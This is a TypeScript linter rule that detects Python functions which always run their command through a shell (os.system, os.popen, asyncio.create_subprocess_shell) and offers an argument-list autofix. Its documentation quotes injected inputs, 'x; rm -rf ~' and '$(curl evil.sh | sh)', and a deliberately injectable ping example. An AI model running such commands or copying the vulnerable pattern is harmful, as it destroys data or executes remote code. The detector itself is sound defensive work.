import { defineRule } from '../../engine/rule';
import type { RuleContext } from '../../engine/rule';
import type { Fix, Fixer } from '../../engine/fixer';
import type { CallSite } from '../../engine/sites';
import { spellOrImport } from '../transport/spelling';
import { brief, classifyCommand, listLiteral, splitCommand } from './command-words';

/** Functions that always hand their command string to a shell, with the name of their command parameter. */
export const SHELL_FUNCTIONS: Record<string, string> = {
  'os.system': 'command',
  'os.popen': 'cmd',
  'os.popen2': 'cmd',
  'os.popen3': 'cmd',
  'os.popen4': 'cmd',
  'popen2.popen2': 'cmd',
  'popen2.popen3': 'cmd',
  'popen2.popen4': 'cmd',
  'popen2.Popen3': 'cmd',
  'popen2.Popen4': 'cmd',
  'commands.getoutput': 'cmd',
  'commands.getstatusoutput': 'cmd',
  'subprocess.getoutput': 'cmd',
  'subprocess.getstatusoutput': 'cmd',
  'asyncio.create_subprocess_shell': 'cmd',
  'asyncio.subprocess.create_subprocess_shell': 'cmd',
};

/** What to use instead of each family, for messages. */
function alternative(qualifiedName: string): string {
  if (qualifiedName.startsWith('asyncio.')) return '`asyncio.create_subprocess_exec`';
  if (qualifiedName.endsWith('getoutput') || qualifiedName.endsWith('getstatusoutput') || qualifiedName.includes('popen')) {
    return '`subprocess.run([...])`';
  }
  return '`subprocess.run([...])`';
}

export default defineRule({
  meta: {
    id: 'PW302',
    name: 'shell-command-function',
    title: 'Command run by a function that always uses a shell',
    category: 'shell-injection',
    // Bandit B605: HIGH/HIGH when the command is computed, LOW/HIGH for a literal string; the
    // default here is the computed case, literal commands are reported with severity low.
    severity: 'high',
    confidence: 'high',
    cwe: 78,
    bandit: 'B605',
    ruff: 'S605',
    fixable: true,
    fixApplicability: ['unsafe'],
    offInTests: true,
    docs: {
      what: 'Finds `os.system`, `os.popen` (and `popen2`/`popen3`/`popen4`), the Python 2 `popen2` and `commands` modules, `subprocess.getoutput` / `getstatusoutput` and `asyncio.create_subprocess_shell`: functions that always run their command through `/bin/sh` (or `cmd.exe`). A command built at run time is reported with high severity, a fixed literal command with low severity.',
      why: 'These functions pass the whole string to a shell, which interprets `;`, `|`, `&&`, `$(…)`, backticks and redirections. When any part of the string comes from a request, a file name or another program, an attacker who supplies `x; rm -rf ~` or `$(curl evil.sh | sh)` runs their own commands with the privileges of the Python process. There is no option to turn the shell off: the fix is to call a function that takes an argument list.',
      example: 'import os\n\ndef ping(host):\n    os.system("ping -c 1 " + host)\n\nos.system("make clean")',
      safe: 'import subprocess\n\ndef ping(host):\n    subprocess.run(["ping", "-c", "1", host], check=True)\n\nsubprocess.call(["make", "clean"])',
      references: [
        'https://cwe.mitre.org/data/definitions/78.html',
        'https://docs.python.org/3/library/os.html#os.system',
        'https://docs.python.org/3/library/subprocess.html#replacing-older-functions-with-the-subprocess-module',
        'https://docs.python.org/3/library/asyncio-subprocess.html#asyncio.create_subprocess_exec',
      ],
    },
  },
  calls: Object.keys(SHELL_FUNCTIONS),

  checkCall(call, context) {
    const qualifiedName = call.qualifiedName!;
    const name = call.callee.text;
    const command = call.argument(0, SHELL_FUNCTIONS[qualifiedName]);
    const instead = alternative(qualifiedName);
    if (!command) {
      if (call.hasStarArgs || call.hasStarKwargs) {
        context.report(call.node, {
          message: `\`${name}\` always runs its command through a shell: input in it can run other commands; use ${instead}.`,
          confidence: 'medium',
        });
      }
      return;
    }
    const kind = classifyCommand(command.value, context);
    if (kind.kind !== 'literal') {
      context.report(call.node, {
        message: `\`${name}\` runs a run-time command through a shell (injection); use ${instead} instead.`,
      });
      return;
    }
    const split = splitCommand(kind.value);
    const fixable = 'words' in split && qualifiedName === 'os.system' && kind.direct && isStatement(call) && call.arguments.length === 1 && !call.hasStarArgs && !call.hasStarKwargs;
    context.report(call.node, {
      message: `\`${name}\` starts a shell for a fixed command, injectable once a value is added; use ${instead}.`,
      severity: 'low',
      fix: fixable && 'words' in split ? (fixer) => systemFix(fixer, call, context, split.words) : undefined,
    });
  },
});

/** Whether the call's value is thrown away: `os.system(...)` as a statement of its own. */
function isStatement(call: CallSite): boolean {
  return call.node.parent?.type === 'expression_statement' && call.node.parent.namedChildCount === 1;
}

/**
 * `os.system("make clean")` → `subprocess.call(["make", "clean"])`. Only where the result is
 * unused: `os.system` returns a wait status (exit code × 256 on POSIX), `subprocess.call` the
 * exit code. Not preferred: a missing program is exit status 127 from the shell but
 * FileNotFoundError without one.
 */
function systemFix(fixer: Fixer, call: CallSite, context: RuleContext, words: string[]): Fix[] {
  const spelled = spellOrImport('subprocess.call', call.node, context, fixer);
  if (!spelled) return [];
  const command = call.arguments[0].value;
  return [
    fixer.unsafe('Use subprocess.call with an argument list', 'a missing program raises FileNotFoundError instead of exit status 127', [
      ...spelled.edits,
      fixer.replace(call.node, `${spelled.text}(${listLiteral(words, command)})`),
    ]),
  ];
}
